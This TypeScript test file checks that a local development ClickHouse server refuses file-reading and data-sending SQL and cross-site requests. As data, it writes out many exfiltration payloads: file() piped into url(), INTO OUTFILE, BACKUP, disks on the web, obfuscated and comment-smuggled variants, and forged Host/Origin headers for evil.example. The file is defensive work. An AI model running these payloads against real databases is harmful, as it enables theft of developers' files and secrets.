import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import {
  startClickHouse,
  type LocalClickHouse,
} from '../../services/development/local/clickhouse/start-clickhouse.ts';
import { loginHeaders } from '../support/clickhouse-login.ts';

/**
 * The local ClickHouse once gave any local user, and any web page, the developer's files: `file()`
 * knew no limit and `url()` sent out, without a password and whoever asked.
 */
const SECRET = 'control-key-of-the-developer';

let directory: string;
let outside: string;
let secretFile: string;
let server: LocalClickHouse;
let listener: Server;
let listenerUrl: string;
const heard: string[] = [];

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'clickhouse-door-'));
  outside = await mkdtemp(join(tmpdir(), 'clickhouse-door-outside-'));
  secretFile = join(outside, 'stack.env');
  await writeFile(secretFile, `${SECRET}\n`);
  server = await startClickHouse({ dataDir: join(directory, 'data') });
  listener = createServer((message, response) => {
    heard.push(`${message.method ?? ''} ${message.url ?? ''}`);
    response.end();
  });
  listener.listen(0, '127.0.0.1');
  await once(listener, 'listening');
  listenerUrl = `http://127.0.0.1:${String((listener.address() as AddressInfo).port)}/`;
  await ask('CREATE TABLE t (a String) ENGINE = MergeTree ORDER BY a');
});
afterAll(async () => {
  await server.stop();
  listener.close();
  await rm(directory, { recursive: true });
  await rm(outside, { recursive: true });
});

interface Answer {
  readonly status: number;
  /** The engine's code for the error; empty if there is none. */
  readonly code: string;
  readonly text: string;
}

/** Node's own client: `fetch` would not send another Host. */
const send = async (
  sql: string,
  headers: Readonly<Record<string, string>>,
  path = '/',
): Promise<Answer> => {
  const outgoing = request(server.url + path, { method: 'POST', headers });
  outgoing.end(sql);
  const [response] = (await once(outgoing, 'response')) as [IncomingMessage];
  const code = response.headers['x-clickhouse-exception-code'];
  return {
    status: response.statusCode ?? 0,
    code: typeof code === 'string' ? code : '',
    text: await text(response),
  };
};

const withLogin = (sql: string, path = '/'): Promise<Answer> =>
  send(sql, loginHeaders(server.environment), path);

const ask = async (sql: string): Promise<string> => {
  const answer = await withLogin(sql);
  if (answer.status !== 200) throw new Error(answer.text);
  return answer.text;
};

const names = async (query: string): Promise<readonly string[]> =>
  (await ask(query)).split('\n').filter(Boolean);

/** Nothing was read, sent or written, whatever the answers said. */
const expectNothingLeft = async (answers: readonly Answer[]): Promise<void> => {
  for (const { text: said } of answers) expect(said).not.toContain(SECRET);
  expect(heard).toEqual([]);
  expect(await readdir(outside)).toEqual(['stack.env']);
  expect(await readFile(secretFile, 'utf8')).toBe(`${SECRET}\n`);
};

const attack = (): string =>
  `INSERT INTO FUNCTION url('${listenerUrl}', 'LineAsString', 'line String') SELECT line FROM file('${secretFile}', 'LineAsString', 'line String')`;

describe('who is let in', () => {
  test.each([
    ['another Host', { Host: 'evil.example:8123' }, 421],
    ['a Host that DNS was rebound to', { Host: 'rebound.example' }, 421],
    ['an Origin', { Origin: 'https://evil.example' }, 403],
    ['an opaque Origin', { Origin: 'null' }, 403],
    ['a page of this machine', { Origin: 'http://127.0.0.1:3000' }, 403],
    ['a page of another site, by a GET in an image', { 'Sec-Fetch-Site': 'cross-site' }, 403],
    ['a page of the same site', { 'Sec-Fetch-Site': 'same-site' }, 403],
  ])('a web page is not, which %s shows, even with the password', async (_, headers, status) => {
    for (const login of [{}, loginHeaders(server.environment)]) {
      const type = { 'Content-Type': 'text/plain' };
      const answer = await send(attack(), { ...type, ...headers, ...login });
      expect(answer.status).toBe(status);
      expect((await send('SELECT 1', { ...headers, ...login }, '/ping')).status).toBe(status);
      await expectNothingLeft([answer]);
    }
  });

  const basic = (user: string, password: string): Record<string, string> => ({
    Authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
  });

  test("a program without the password is refused with the engine's own error", async () => {
    const { CLICKHOUSE_USER: user, CLICKHOUSE_PASSWORD: password } = server.environment;
    const refused = [
      await send('SELECT 1', {}),
      await send('SELECT 1', { 'X-ClickHouse-User': user, 'X-ClickHouse-Key': 'wrong' }),
      await send('SELECT 1', { 'X-ClickHouse-User': 'other', 'X-ClickHouse-Key': password }),
      await send('SELECT 1', basic(user, 'wrong')),
      await send('SELECT 1', { Authorization: 'Bearer x' }),
      await send('SELECT 1', {}, '/?user=default&password=wrong'),
      // In two ways at once.
      await send('SELECT 1', basic(user, password), `/?user=${user}&password=${password}`),
      await send(attack(), {}),
    ];
    for (const { status, code, text: said } of refused) {
      expect([status, code]).toEqual([403, '516']);
      expect(said).toMatch(/^Code: 516\. DB::Exception: .*\(AUTHENTICATION_FAILED\)/);
      expect(said).not.toContain(password);
    }
    await expectNothingLeft(refused);
  });

  test('each of the three ways to bring the password works', async () => {
    const { CLICKHOUSE_USER: user, CLICKHOUSE_PASSWORD: password } = server.environment;
    const answers = [
      await send('SELECT 1', { 'X-ClickHouse-User': user, 'X-ClickHouse-Key': password }),
      await send('SELECT 1', { 'X-ClickHouse-Key': password }),
      await send('SELECT 1', basic(user, password)),
      await send('SELECT 1', {}, `/?user=${user}&password=${password}`),
      await send('SELECT 1', {}, `/?password=${password}`),
    ];
    expect(answers.map(({ text: said }) => said)).toEqual(answers.map(() => '1\n'));
  });

  test('the password is made once, and its owner alone can read it', async () => {
    const file = join(directory, 'data', 'password');
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect(server.environment.CLICKHOUSE_PASSWORD).toMatch(/^[\da-f]{48}$/);
    const before = server.environment;
    await server.stop();
    server = await startClickHouse({ dataDir: join(directory, 'data'), port: server.port });
    expect(server.environment).toEqual(before);
  });
});

/** Table functions that stay; whatever else this version of the engine has is refused. */
const HARMLESS = new Set(
  'generateSeries generate_series loop merge numbers numbers_mt primes view viewExplain viewIfPermitted zeros zeros_mt'.split(
    ' ',
  ),
);

test('every table function that the engine has and this list has not is refused', async () => {
  const found = (await names('SELECT name FROM system.table_functions')).filter(
    (name) => !HARMLESS.has(name),
  );
  expect(found.length).toBeGreaterThan(50);
  const answers: Answer[] = [];
  for (const name of found) {
    const call = `${name}('${listenerUrl}', 'CSV', 'a String')`;
    for (const sql of [
      `SELECT * FROM ${call}`,
      `INSERT INTO FUNCTION ${call} SELECT 'x'`,
      `CREATE TABLE made AS ${call}`,
    ]) {
      const answer = await withLogin(sql);
      // INSERT with input() is not supported at all.
      const isInput = sql.startsWith('INSERT INTO FUNCTION input(');
      expect([sql, answer.code]).toEqual([sql, isInput ? '48' : '497']);
      answers.push(answer);
    }
  }
  await expectNothingLeft(answers);
});

/** Engines of tables and databases that stay. */
const OWN_DATA = new Set(
  'AggregatingMergeTree Atomic CoalescingMergeTree CollapsingMergeTree Join Log MaterializedView Memory Merge MergeTree Null ReplacingMergeTree Set StripeLog SummingMergeTree TinyLog VersionedCollapsingMergeTree View'.split(
    ' ',
  ),
);

test.each(['table', 'database'])(
  'every engine of a %s that the engine has and this list has not is refused',
  async (kind) => {
    const found = (await names(`SELECT name FROM system.${kind}_engines`)).filter(
      (name) => !OWN_DATA.has(name),
    );
    expect(found.length).toBeGreaterThan(5);
    for (const name of found) {
      const columns = kind === 'table' ? '(a String)' : '';
      const sql = `CREATE ${kind} made ${columns} ENGINE = ${name}('${listenerUrl}', 'CSV')`;
      const answer = await withLogin(sql);
      expect([sql, answer.code]).toEqual([sql, '497']);
      await expectNothingLeft([answer]);
    }
  },
);

/** Values of settings that do not take any text. */
const VALUES: Readonly<Record<string, string>> = {
  additional_table_filters: "{'t':'1'}",
  allow_experimental_eval_table_function: '1',
  dialect: "'prql'",
};

test('every setting that may name a file or a server, or hold SQL, cannot be changed', async () => {
  const found = await names(
    "SELECT name FROM system.settings WHERE type IN ('String', 'Map', 'URI', 'Dialect') AND match(name, 'schema|template_r|path|url|registry|filter|dialect|credentials|cluster|rename|custom_key')",
  );
  const left = ['column_names_for_schema_inference', 'format_template_rows_between_delimiter'];
  const locked = found.filter((name) => !left.includes(name));
  expect(locked.length).toBeGreaterThan(15);
  for (const name of [...locked, 'allow_experimental_eval_table_function']) {
    const value = VALUES[name] ?? `'${secretFile}'`;
    const inQuery = await withLogin(`SELECT 1 SETTINGS ${name} = ${value}`);
    const parameter = encodeURIComponent(value.replace(/^'|'$/g, ''));
    const inUrl = await withLogin('SELECT 1', `/?${name}=${parameter}`);
    for (const { code } of [inQuery, inUrl]) expect([name, code]).toEqual([name, '452']);
    await expectNothingLeft([inQuery, inUrl]);
  }
});

describe('what leaves the data directory is refused', () => {
  test.each([
    ['the attack', attack, '497'],
    ['a file in a function', () => `SELECT file('${secretFile}')`, '497'],
    ['in quotes', () => `SELECT \`file\`('${secretFile}')`, '497'],
    ['with an escape', () => `SELECT "f\\x69le"('${secretFile}')`, '497'],
    ['as a value', () => `SELECT arrayMap(file, ['${secretFile}'])`, '497'],
    ['behind APPLY', () => `SELECT * APPLY(file) FROM (SELECT '${secretFile}')`, '497'],
    ['behind a comment of its kind', () => `SELECT 1 // '\n, file('${secretFile}') -- '`, '497'],
    ['behind a nested comment', () => `SELECT /* /* */ ' */ file('${secretFile}') -- '`, '497'],
    ['behind an open heredoc', () => `SELECT 1 AS $x$, file('${secretFile}')`, '497'],
    ['behind a number', () => `SELECT 1e--file('${secretFile}')`, '497'],
    ['behind a curly quote', () => `SELECT “'”, file('${secretFile}') AS b --'`, '62'],
    ['a file as a table', () => `SELECT * FROM '${secretFile}'`, '497'],
    ['a file as an identifier', () => `SELECT * FROM \`${secretFile}\``, '497'],
    ['EXPLAIN', () => `EXPLAIN SELECT * FROM file('${secretFile}')`, '497'],
    ['DESCRIBE', () => `DESCRIBE url('${listenerUrl}', 'CSV')`, '497'],
    ['a view', () => `CREATE VIEW v AS SELECT * FROM url('${listenerUrl}', 'CSV')`, '497'],
    ['INTO OUTFILE', () => `SELECT 1 INTO OUTFILE '${join(outside, 'x')}'`, '497'],
    ['with a space of its kind', () => `SELECT 1 INTO\u00a0OUTFILE '${join(outside, 'x')}'`, '62'],
    ['EXPLAIN INTO OUTFILE', () => `EXPLAIN SELECT 1 INTO OUTFILE '${join(outside, 'x')}'`, '497'],
    ['FROM INFILE', () => `INSERT INTO t FROM INFILE '${secretFile}' FORMAT CSV`, '497'],
    ['with columns', () => `INSERT INTO t (a) FROM /**/ INFILE '${secretFile}' FORMAT CSV`, '497'],
    ['a second table', () => `INSERT INTO t FROM INFILE '${secretFile}' FORMAT CSV\n1`, '497'],
    ['BACKUP', () => `BACKUP TABLE t TO File('${join(outside, 'x')}')`, '497'],
    ['RESTORE', () => `RESTORE TABLE t FROM File('${outside}')`, '497'],
    ['ATTACH', () => `ATTACH TABLE x FROM '${outside}' (a String) ENGINE = Log`, '497'],
    [
      'ATTACH beside',
      () =>
        `DROP TABLE IF EXISTS x PARALLEL WITH ATTACH TABLE x FROM '${outside}' (a String) ENGINE = Log`,
      '497',
    ],
    [
      'a dictionary',
      () =>
        `CREATE DICTIONARY d (a String) PRIMARY KEY a SOURCE(FILE(path '${secretFile}' format 'CSV')) LAYOUT(FLAT()) LIFETIME(1)`,
      '497',
    ],
    ['a function of a program', () => 'CREATE FUNCTION f AS x -> x', '497'],
    ['a named collection', () => `CREATE NAMED COLLECTION c AS url = '${listenerUrl}'`, '497'],
    ['SYSTEM', () => 'SYSTEM FLUSH LOGS', '497'],
    ['a user', () => "CREATE USER u IDENTIFIED BY 'x'", '497'],
    ['a grant', () => 'GRANT ALL ON *.* TO default', '497'],
    ['another user', () => 'EXECUTE AS other SELECT 1', '344'],
    [
      'a disk elsewhere',
      () =>
        `CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = object_storage, object_storage_type = local, metadata_type = local, path = '${outside}/')`,
      '497',
    ],
    [
      'a disk on the web',
      () =>
        `CREATE TABLE x (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = '${listenerUrl}')`,
      '497',
    ],
    [
      'a disk for a table',
      () => `ALTER TABLE t MODIFY SETTING disk = disk(type = web, endpoint = '${listenerUrl}')`,
      '497',
    ],
    ['a cluster', () => "SELECT * FROM clusterAllReplicas('default', system.one)", '497'],
    [
      'a schema to write',
      () => `SELECT 1 AS a FORMAT Protobuf SETTINGS output_format_schema = '${join(outside, 'x')}'`,
      '452',
    ],
    [
      'a template to read',
      () => `SELECT 1 FORMAT Template SETTINGS format_template_resultset = '${secretFile}'`,
      '452',
    ],
    [
      'SQL in a setting',
      () => `SELECT 1 SETTINGS additional_result_filter = 'file(\\'${secretFile}\\') != \\'\\''`,
      '452',
    ],
    [
      'an expression among the values of format()',
      () => `SELECT * FROM format(Values, 'a String', '(file(\\'${secretFile}\\'))')`,
      '497',
    ],
    [
      'a default in the structure of format()',
      () =>
        `SELECT * FROM format(JSONEachRow, 'a String, b String DEFAULT file(\\'${secretFile}\\')', '{"a":"1"}')`,
      '497',
    ],
    [
      'an alias in the structure of values()',
      () => `SELECT a, b FROM values('a String, b String ALIAS file(\\'${secretFile}\\')', ('x'))`,
      '497',
    ],
    [
      'a structure that is put together',
      () => `SELECT b FROM generateRandom(concat('b String ALIAS fi', 'le(\\'${secretFile}\\')'))`,
      '497',
    ],
    ['SQL as a text', () => `SELECT * FROM eval('SELECT file(''${secretFile}'')')`, '497'],
  ])('%s', async (_, sql, code) => {
    const answer = await withLogin(sql());
    expect([answer.text.slice(0, 300), answer.code]).toEqual([expect.anything(), code]);
    await expectNothingLeft([answer]);
  });

  test.each(['VALUES', 'FORMAT Values'])('an expression in the data of %s', async (format) => {
    await withLogin('CREATE TABLE IF NOT EXISTS expressions (a String) ENGINE = Memory');
    const answer = await withLogin(`INSERT INTO expressions ${format} (file('${secretFile}'))`);
    expect(answer.code).toBe('497');
    const read = await withLogin('SELECT * FROM expressions');
    await expectNothingLeft([answer, read]);
    const plain = await withLogin(`INSERT INTO expressions ${format} ('file(1)'), (upper('x'))`);
    expect([plain.code, await ask('SELECT count() FROM expressions')]).toEqual(['', '2\n']);
    await withLogin('TRUNCATE TABLE expressions');
  });

  test('a function that a parameter names', async () => {
    const path = `/?param_f=file&param_p=${encodeURIComponent(secretFile)}`;
    const answer = await withLogin('SELECT arrayMap({f:Identifier}, [{p:String}])', path);
    expect(answer.code).toBe('497');
    await expectNothingLeft([answer]);
  });
});

test('what works on tables alone goes on', async () => {
  for (const sql of [
    'CREATE DATABASE d',
    'CREATE TABLE d.t (a UInt32, v String) ENGINE = ReplacingMergeTree ORDER BY a',
    "INSERT INTO d.t SELECT number, 'file(1) INTO OUTFILE' FROM numbers(3)",
    'ALTER TABLE d.t ADD COLUMN b UInt8 DEFAULT 1',
    'ALTER TABLE d.t DETACH PARTITION tuple()',
    'ALTER TABLE d.t ATTACH PARTITION tuple()',
    'ALTER TABLE d.t DELETE WHERE a = 0 SETTINGS mutations_sync = 1',
    'CREATE VIEW d.v AS SELECT * FROM d.t FINAL',
    'CREATE MATERIALIZED VIEW d.m (a UInt32) ENGINE = MergeTree ORDER BY a AS SELECT a FROM d.t',
    'OPTIMIZE TABLE d.t FINAL',
    'TRUNCATE TABLE d.m',
    'DROP TABLE d.m',
  ]) {
    await ask(sql);
  }
  expect(await ask('SELECT count(), any(v) FROM d.v')).toBe('2\tfile(1) INTO OUTFILE\n');
  expect(await ask("SELECT engine FROM system.tables WHERE database = 'd' ORDER BY name")).toBe(
    'ReplacingMergeTree\nView\n',
  );
  await ask('DROP DATABASE d SYNC');
});
